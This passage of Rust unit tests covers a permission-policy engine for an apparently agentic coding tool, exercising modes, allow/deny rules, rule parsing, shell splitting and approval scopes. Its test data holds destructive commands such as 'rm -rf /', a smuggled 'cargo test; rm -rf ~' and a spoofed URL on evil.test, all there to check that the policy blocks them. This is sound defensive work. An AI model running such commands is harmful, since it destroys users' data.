        (AutoEdit, DOCS, "write_file", &[W], r#"{"path":"docsx/y.md"}"#, ALLOW),
        (Ask, &[(A, "write_file(docs/*.md)")], "write_file", &[W], r#"{"path":"docs/x.md"}"#, ALLOW),
        (Ask, &[(A, "write_file(docs/*.md)")], "write_file", &[W], r#"{"path":"docs/a/x.md"}"#, ASK),
        (Ask, &[(A, "write_file(./docs/**)")], "write_file", &[W], r#"{"path":"docs/x.md"}"#, ALLOW),
        // Other arguments: canonical JSON, keys sorted.
        (Ask, &[(A, r#"fetch(*"url":"https://docs.rs/*)"#)], "fetch", &[N], r#"{"url":"https://docs.rs/globset"}"#, ALLOW),
        (Ask, &[(A, r#"fetch(*"url":"https://docs.rs/*)"#)], "fetch", &[N], r#"{"url":"https://evil.test/?https://docs.rs/"}"#, ASK),
        (Ask, &[(A, r#"fetch({"a":1,"b":2})"#)], "fetch", &[N], r#"{"b":2,"a":1}"#, ALLOW),
        // Rules name their tool exactly; `*` is any tool.
        (AutoEdit, DOCS, "edit_file", &[W], r#"{"path":"docs/x.md"}"#, ALLOW),
        (AutoEdit, &[(D, "fetch")], "fetch_url", &[N], "{}", ASK),
        (AutoEdit, &[(D, "*")], "read_file", &[R], r#"{"path":"x"}"#, DENY),
        (Ask, &[(A, "*")], "write_file", &[W], r#"{"path":"x"}"#, ALLOW),
        (Ask, &[(A, "*(docs/**)")], "edit_file", &[W], r#"{"path":"docs/x.md"}"#, ALLOW),
        (Ask, &[(A, "mcp_*")], "mcp_github", &[N], "{}", ALLOW),
        // Read-only overrides allow and ask rules for non-read calls.
        (ReadOnly, &[(A, "write_file")], "write_file", &[W], r#"{"path":"x"}"#, DENY),
        (ReadOnly, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test x"}"#, DENY),
        (ReadOnly, &[(Q, "fetch")], "fetch", &[N], "{}", DENY),
        (ReadOnly, &[(Q, "read_file")], "read_file", &[R], "{}", ASK),
        (ReadOnly, &[(A, "read_file")], "read_file", &[R], "{}", ALLOW),
    ];

    fn policy(mode: Mode, rules: &[(Action, &str)]) -> Policy {
        let rules = rules
            .iter()
            .enumerate()
            .map(|(i, (action, text))| {
                parse_rule(text, *action, &format!("test: {action}[{i}]")).unwrap()
            })
            .collect();
        Policy { mode, rules }
    }

    #[test]
    fn table() {
        assert!(CASES.len() >= 40);
        let mut failures = Vec::new();
        for (i, (mode, rules, tool, effects, args, expected)) in CASES.iter().enumerate() {
            let args: serde_json::Value = serde_json::from_str(args).unwrap();
            let verdict = policy(*mode, rules).decide(tool, effects, &args);
            if verdict.decision != *expected {
                failures.push(format!(
                    "row {i}: {mode} {rules:?} {tool} {args}: expected {expected:?}, got {verdict:?}"
                ));
            }
        }
        assert_eq!(failures, Vec::<String>::new());
    }

    #[test]
    fn reasons_name_the_rule_or_the_mode() {
        let rm = json!({ "command": "rm -rf /" });
        let cases = [
            (
                policy(FullAuto, &[(A, "run_command"), (D, "run_command(rm *)")]),
                "run_command",
                vec![X],
                rm.clone(),
                DENY,
                r#"deny rule "run_command(rm *)" (test: deny[1])"#,
            ),
            (
                policy(Ask, &[(S, "run_command(rm **)")]),
                "run_command",
                vec![X],
                rm.clone(),
                STOP,
                r#"deny-and-stop rule "run_command(rm **)" (test: deny-and-stop[0])"#,
            ),
            (
                policy(Ask, &[]),
                "write_file",
                vec![W],
                json!({}),
                ASK,
                "mode ask: write needs approval",
            ),
            (
                policy(Ask, &[]),
                "t",
                vec![N, X, W, R, X],
                json!({}),
                ASK,
                "mode ask: write, execute and network need approval",
            ),
            (
                policy(AutoEdit, &[]),
                "t",
                vec![W, R],
                json!({}),
                ALLOW,
                "mode auto-edit: read and write run",
            ),
            (
                policy(FullAuto, &[]),
                "t",
                vec![X],
                json!({}),
                ALLOW,
                "mode full-auto: everything runs",
            ),
            (
                policy(Ask, &[]),
                "now",
                vec![],
                json!({}),
                ALLOW,
                "mode ask: `now` declares no effects",
            ),
            (
                policy(ReadOnly, &[]),
                "run_command",
                vec![X, W],
                rm.clone(),
                DENY,
                "mode read-only: the session is read-only and `run_command` would write and execute",
            ),
            (
                policy(ReadOnly, &[(A, "write_file(docs/**)")]),
                "write_file",
                vec![W],
                json!({ "path": "docs/a.md" }),
                DENY,
                r#"mode read-only: the session is read-only and `write_file` would write (overrides allow rule "write_file(docs/**)" (test: allow[0]))"#,
            ),
        ];
        for (policy, tool, effects, args, decision, reason) in cases {
            assert_eq!(
                policy.decide(tool, &effects, &args),
                Verdict {
                    decision,
                    reason: reason.to_owned()
                }
            );
        }
    }

    #[test]
    fn verdicts_serialize_for_the_log() {
        let deny = Verdict {
            decision: STOP,
            reason: "r".into(),
        };
        assert_eq!(
            serde_json::to_value(&deny).unwrap(),
            json!({ "decision": "deny", "stop": true, "reason": "r" })
        );
        let ask = Verdict {
            decision: ASK,
            reason: "r".into(),
        };
        assert_eq!(
            serde_json::to_value(&ask).unwrap(),
            json!({ "decision": "ask", "reason": "r" })
        );
    }

    #[test]
    fn modes_parse_and_serialize() {
        for mode in Mode::ALL {
            assert_eq!(mode.as_str().parse::<Mode>(), Ok(mode));
            assert_eq!(serde_json::to_value(mode).unwrap(), json!(mode.as_str()));
            assert_eq!(
                serde_json::from_value::<Mode>(json!(mode.as_str())).unwrap(),
                mode
            );
        }
        assert_eq!(Mode::default(), Ask);
        assert_eq!(
            "yolo".parse::<Mode>(),
            Err(
                "unknown permission mode `yolo`; use one of: read-only, ask, auto-edit, full-auto"
                    .into()
            )
        );
        assert_eq!(
            serde_json::to_value(DenyAndStop).unwrap(),
            json!("deny-and-stop")
        );
    }

    use Action::DenyAndStop;

    #[test]
    fn rules_parse() {
        let rule = |tool: &str, pattern: Option<&str>| Rule {
            action: D,
            tool: tool.into(),
            pattern: pattern.map(Into::into),
            source: "corral.toml: deny[0]".into(),
        };
        let cases = [
            ("edit_file", rule("edit_file", None)),
            ("  edit_file  ", rule("edit_file", None)),
            (
                "run_command(cargo test *)",
                rule("run_command", Some("cargo test *")),
            ),
            (
                "run_command( cargo test * )",
                rule("run_command", Some("cargo test *")),
            ),
            ("write_file(docs/**)", rule("write_file", Some("docs/**"))),
            ("git(commit *)", rule("git", Some("commit *"))),
            (
                "run_command(echo (a) b)",
                rule("run_command", Some("echo (a) b")),
            ),
            ("*", rule("*", None)),
            ("*(docs/**)", rule("*", Some("docs/**"))),
            (
                "run_command(test [ -f x ])",
                rule("run_command", Some("test [ -f x ]")),
            ),
        ];
        for (text, expected) in cases {
            assert_eq!(parse_rule(text, D, "corral.toml: deny[0]"), Ok(expected));
        }
        assert_eq!(
            rule("run_command", Some("rm *")).to_string(),
            "run_command(rm *)"
        );
    }

    #[test]
    fn rule_errors_say_what_and_how() {
        let cases = [
            (
                "",
                "the tool name is empty; write tool or tool(pattern), e.g. write_file(docs/**)",
            ),
            (
                "(docs/**)",
                "the tool name is empty; write tool or tool(pattern), e.g. write_file(docs/**)",
            ),
            (
                "run_command(rm *",
                "unbalanced parentheses: the pattern must end with `)`, e.g. run_command(cargo test *)",
            ),
            (
                "run_command)",
                "`)` without a matching `(`; write tool(pattern), e.g. run_command(cargo test *)",
            ),
            (
                "run_command(a) b)",
                "unbalanced parentheses: a `)` closes the pattern before the end of the rule",
            ),
            (
                "run_command((a)",
                "unbalanced parentheses: a `(` inside the pattern is never closed",
            ),
            (
                "run command",
                "bad character ' ' in the tool name; names use letters, digits, `_`, `-`, `.`, `:` and `*`",
            ),
            (
                "write/file(x)",
                "bad character '/' in the tool name; names use letters, digits, `_`, `-`, `.`, `:` and `*`",
            ),
            (
                "run_command()",
                "the pattern is empty; write `run_command` alone to match every call",
            ),
            (
                "run_command(rm\u{7})",
                "bad character '\\u{7}' in the pattern",
            ),
            (
                "write_file(docs/[)",
                "the pattern is not a valid glob (unclosed character class; missing ']'); escape a literal `[`, `{` or `}` as `[[]`, `[{]`, `[}]`",
            ),
        ];
        for (text, why) in cases {
            assert_eq!(
                parse_rule(text, D, "corral.toml: deny[2]"),
                Err(format!(
                    "corral.toml: deny[2]: rule \"{}\": {why}",
                    text.trim()
                ))
            );
        }
    }

    #[test]
    fn shell_split_unquotes_without_expanding() {
        let cases: &[(&str, Option<&[&str]>)] = &[
            ("", Some(&[])),
            ("   ", Some(&[])),
            ("rm -rf /", Some(&["rm", "-rf", "/"])),
            (" rm\t -rf \n / ", Some(&["rm", "-rf", "/"])),
            ("'a b' c", Some(&["a b", "c"])),
            (r#"'a\"b'"#, Some(&[r#"a\"b"#])),
            (r#""a \"b\" \\ \$HOME \x""#, Some(&[r#"a "b" \ $HOME \x"#])),
            (r"a\ b \'c\' \\", Some(&["a b", "'c'", "\\"])),
            ("r''m \"\" ''", Some(&["rm", "", ""])),
            ("a\"b c\"'d e'f", Some(&["ab cd ef"])),
            ("$HOME *.rs ~ a;b", Some(&["$HOME", "*.rs", "~", "a;b"])),
            ("a\\\nb", Some(&["ab"])),
            ("'open", None),
            ("\"open", None),
            ("\"a\\\"", None),
            ("trailing\\", None),
        ];
        for (line, expected) in cases {
            let expected = expected.map(|ws| ws.iter().map(|w| w.to_string()).collect());
            assert_eq!(shell_split(line), expected, "{line:?}");
        }
    }

    #[test]
    fn session_approval_covers_one_command_or_one_tool() {
        let scope = |tool, args: serde_json::Value| session_scope(tool, &args);
        // The same command, however it is quoted or spaced, is one scope.
        assert_eq!(
            scope("run_command", serde_json::json!({"command": "cargo test"})),
            scope(
                "run_command",
                serde_json::json!({"command": "'cargo'  test"})
            )
        );
        assert_eq!(
            scope("run_command", serde_json::json!({"command": "cargo test"})),
            scope(
                "run_command",
                serde_json::json!({"argv": ["cargo", "test"]})
            )
        );
        // Another command, even with the same program, is not.
        assert_ne!(
            scope("run_command", serde_json::json!({"command": "cargo test"})),
            scope(
                "run_command",
                serde_json::json!({"command": "cargo test; rm -rf ~"})
            )
        );
        assert_ne!(
            scope("run_command", serde_json::json!({"command": "cargo test"})),
            scope(
                "run_command",
                serde_json::json!({"command": "cargo publish"})
            )
        );
        // Edits: the tool, whatever the path.
        assert_eq!(
            scope(
                "edit_file",
                serde_json::json!({"path": "a.rs", "old": "x", "new": "y"})
            ),
            "edit_file"
        );
        assert_eq!(
            scope("git_commit", serde_json::json!({"message": "m"})),
            "git_commit"
        );
    }

    #[test]
    fn subjects() {
        let words = |ws: &[&str]| Subject::Command(ws.iter().map(|w| w.to_string()).collect());
        let cases = [
            (
                json!({ "argv": ["rm", "-rf", "/"], "command": "ls" }),
                words(&["rm", "-rf", "/"]),
            ),
            (
                json!({ "command": "'rm'  -rf \"/\"" }),
                words(&["rm", "-rf", "/"]),
            ),
            // Unbalanced quotes fall back to whitespace splitting.
            (
                json!({ "command": "echo 'it s" }),
                words(&["echo", "'it", "s"]),
            ),
            (
                json!({ "argv": ["rm", 1] }),
                Subject::Other(r#"{"argv":["rm",1]}"#.into()),
            ),
            (
                json!({ "path": "./docs//a/./b/../c.md" }),
                Subject::Path("docs/a/c.md".into()),
            ),
            (
                json!({ "path": "docs/../../x" }),
                Subject::Path("../x".into()),
            ),
            (json!({ "path": "/a/../../b/" }), Subject::Path("/b".into())),
            (json!({ "path": "./" }), Subject::Path(".".into())),
            (json!({ "path": 3 }), Subject::Other(r#"{"path":3}"#.into())),
            (
                json!({ "z": { "b": 1, "a": [true, null] }, "a": "x y" }),
                Subject::Other(r#"{"a":"x y","z":{"a":[true,null],"b":1}}"#.into()),
            ),
        ];
        for (args, expected) in cases {
            assert_eq!(subject("t", &args), expected, "{args}");
        }
    }

    #[test]
    fn wildcards() {
        let cases = [
            ("*", "", true),
            ("a*", "abc", true),
            ("*c", "abc", true),
            ("a*c*e", "abcde", true),
            ("a*c", "ab", false),
            ("abc", "abc", true),
            ("abc", "abcd", false),
            ("--package=corral*", "--package=corral-sdk", true),
        ];
        for (pattern, text, expected) in cases {
            assert_eq!(wildcard(pattern, text), expected, "{pattern} ~ {text}");
        }
    }
}
